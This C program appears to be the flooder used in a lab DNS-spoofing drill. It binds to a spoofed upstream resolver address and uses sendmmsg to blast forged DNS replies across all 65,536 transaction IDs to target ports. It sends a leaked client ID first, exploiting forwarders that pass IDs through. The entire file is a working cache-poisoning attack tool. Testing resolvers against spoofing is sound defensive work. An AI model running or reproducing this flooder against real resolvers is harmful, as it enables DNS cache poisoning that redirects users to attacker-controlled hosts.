/*
 * The spoofing drill's flooder: forged DNS replies from a socket bound to the
 * upstream's address (the attacker's namespace owns a copy of it), sent with
 * sendmmsg so that all 65,536 IDs reach a port within the upstream's delay.
 * usage: flood SRC_IP SRC_PORT DST_IP PORTS(a,b,c) PAYLOAD_HEX MAX_MS
 * Waits for a line on stdin with a first ID before sending, so the caller can
 * start it ahead and fire it right after its query. Per port: that ID first (a
 * forwarder that passes the client's ID on gives it away), then every ID. Prints
 * "sent N in T ms" on stdout.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 512

static double now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

int main(int argc, char **argv) {
  if (argc != 7) { fprintf(stderr, "usage: flood SRC_IP SRC_PORT DST_IP PORTS PAYLOAD_HEX MAX_MS\n"); return 2; }
  const char *hex = argv[5];
  size_t len = strlen(hex) / 2;
  if (len < 12 || len > 512) { fprintf(stderr, "bad payload\n"); return 2; }
  unsigned char payload[512];
  for (size_t i = 0; i < len; i++) sscanf(hex + 2 * i, "%2hhx", &payload[i]);
  int ports[64], nports = 0;
  for (char *p = strtok(argv[4], ","); p && nports < 64; p = strtok(NULL, ",")) ports[nports++] = atoi(p);
  double max_ms = atof(argv[6]);

  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) { perror("socket"); return 1; }
  int one = 1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  struct sockaddr_in src = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
  if (inet_pton(AF_INET, argv[1], &src.sin_addr) != 1 || bind(fd, (struct sockaddr *)&src, sizeof src) < 0) { perror("bind"); return 1; }

  static unsigned char bufs[BATCH][512];
  static struct iovec iov[BATCH];
  static struct mmsghdr msgs[BATCH];
  static struct sockaddr_in dsts[BATCH];
  struct in_addr dst_ip;
  if (inet_pton(AF_INET, argv[3], &dst_ip) != 1) { fprintf(stderr, "bad DST_IP\n"); return 2; }

  char line[16];
  if (!fgets(line, sizeof line, stdin)) return 1;
  int first = atoi(line) & 0xffff;

  double t0 = now_ms();
  long sent = 0;
  int stop = 0;
  for (int pi = 0; pi < nports && !stop; pi++) {
    /* index -1 is FIRST_ID, then 0..65535 */
    for (int id = -1; id < 65536 && !stop;) {
      int n = 0;
      for (; n < BATCH && id < 65536; n++, id++) {
        int v = id < 0 ? first : id;
        memcpy(bufs[n], payload, len);
        bufs[n][0] = (unsigned char)(v >> 8);
        bufs[n][1] = (unsigned char)(v & 0xff);
        iov[n].iov_base = bufs[n];
        iov[n].iov_len = len;
        dsts[n].sin_family = AF_INET;
        dsts[n].sin_addr = dst_ip;
        dsts[n].sin_port = htons(ports[pi]);
        memset(&msgs[n].msg_hdr, 0, sizeof msgs[n].msg_hdr);
        msgs[n].msg_hdr.msg_name = &dsts[n];
        msgs[n].msg_hdr.msg_namelen = sizeof dsts[n];
        msgs[n].msg_hdr.msg_iov = &iov[n];
        msgs[n].msg_hdr.msg_iovlen = 1;
      }
      int off = 0;
      while (off < n) {
        int r = sendmmsg(fd, msgs + off, n - off, 0);
        if (r < 0) { r = 1; } /* ICMP-triggered errors (port unreachable) on one datagram: skip it */
        off += r;
        sent += r;
      }
      if (now_ms() - t0 > max_ms) stop = 1;
    }
  }
  printf("sent %ld in %.1f ms\n", sent, now_ms() - t0);
  return 0;
}
